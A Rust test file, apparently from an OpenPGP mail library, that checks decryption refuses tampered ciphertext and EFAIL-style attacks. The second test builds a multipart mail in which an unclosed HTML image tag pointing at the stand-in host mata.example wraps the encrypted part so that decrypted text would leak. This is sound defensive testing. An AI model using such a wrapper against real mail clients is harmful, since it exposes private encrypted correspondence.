//! Attacks on each published mail that opens: bytes changed on the way, and its parts put into a web page that would carry
//! the text away (EFAIL). Nothing of a changed mail is shown, and nothing is shown but what came out of the encryption.

use merpati::parse::Letter;
use merpati::seal::{Lock, PracticeKey, Wrap};

use super::corpus::{KEYS, mails, open_with, raw};

/// Places in each message at which a sign is changed.
const CHANGES: usize = 6;

/// The published mails that open, each with the key that does it, and their text.
fn victims() -> Vec<(&'static PracticeKey, String, Vec<u8>)> {
    let all = mails().into_iter().map(|(path, _)| raw(&path));
    let opens = |raw: Vec<u8>| {
        KEYS.iter().find_map(|key| {
            let (letter, wrap) = open_with(key, raw.clone());
            let text = letter.text.reveal().trim().to_owned();
            (wrap.lock == Lock::Opened).then_some((key, text, raw.clone()))
        })
    };
    all.filter_map(opens).filter(|(_, text, _)| words(text).next().is_some()).collect()
}

/// Words that stand in no header and no frame by chance.
fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split_whitespace().filter(|word| word.len() > 4)
}

/// Where the armored message lies.
fn armor(raw: &[u8]) -> Option<std::ops::Range<usize>> {
    let find = |what: &[u8], from: usize| raw[from..].windows(what.len()).position(|w| w == what).map(|at| from + at);
    let from = find(b"-----BEGIN PGP MESSAGE-----", 0)? + 27;
    Some(from..find(b"-----END PGP MESSAGE-----", from)?)
}

/// The letter shows the text of the message, or a part of it.
fn shows(letter: &Letter, text: &str) -> bool {
    let shown = letter.text.reveal();
    words(text).any(|word| shown.contains(word))
}

#[test]
fn nothing_of_a_changed_mail_is_shown() {
    let (mut tried, mut refused) = (0, 0);
    for (key, text, raw) in victims() {
        let Some(armor) = armor(&raw) else { continue };
        // Behind the session keys, one of which may be somebody else's, and before the checksum.
        let (from, to) = (armor.end - 120, armor.end - 30);
        for change in 0..CHANGES {
            let mut changed = raw.clone();
            let at = (from + (to - from) * change / CHANGES..to).find(|i| raw[*i].is_ascii_alphanumeric()).unwrap();
            changed[at] = if raw[at] == b'A' { b'B' } else { b'A' };
            let (letter, wrap) = open_with(key, changed);
            tried += 1;
            // Another message of the same mail may open; what was changed does not.
            assert!(wrap.lock.is_shut() || !shows(&letter, &text), "{wrap:?}: {}", letter.text.reveal());
            refused += 1;
        }
    }
    println!("OpenPGP attacks, bytes changed on the way: refused {refused} of {tried}");
    assert!(tried >= 80, "{tried}");
}

#[test]
fn a_web_page_around_a_message_gets_nothing() {
    let (mut tried, mut refused) = (0, 0);
    for (key, text, raw) in victims() {
        let Some(armor) = armor(&raw) else { continue };
        let message = &raw[armor.start - 27..armor.end + 25];
        let before = "From: a@b.example\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"o\"\r\n\r\n\
             --o\r\nContent-Type: text/html\r\n\r\n<img src=\"http://mata.example/\r\n--o\r\n";
        let after = "\r\n--o\r\nContent-Type: text/html\r\n\r\n\">Bayar sekarang\r\n--o--\r\n";
        let inside = [
            ("Content-Type: text/plain\r\n\r\n".to_owned(), String::new()),
            (
                "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"x\"\r\n\r\n--x\r\n\
                 Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--x\r\n\
                 Content-Type: application/octet-stream\r\n\r\n"
                    .to_owned(),
                "\r\n--x--\r\n".to_owned(),
            ),
        ];
        for (open, close) in inside {
            let mail = [before.as_bytes(), open.as_bytes(), message, close.as_bytes(), after.as_bytes()].concat();
            let (letter, wrap): (Letter, Wrap) = open_with(key, mail);
            tried += 1;
            let shown = letter.text.reveal();
            let leaks = shown.contains("mata.example") || shown.contains("Bayar");
            assert!(!(leaks && shows(&letter, &text)), "{wrap:?}: {shown}");
            refused += 1;
        }
    }
    println!("OpenPGP attacks, a web page around the message: refused {refused} of {tried}");
    assert!(tried >= 30, "{tried}");
}
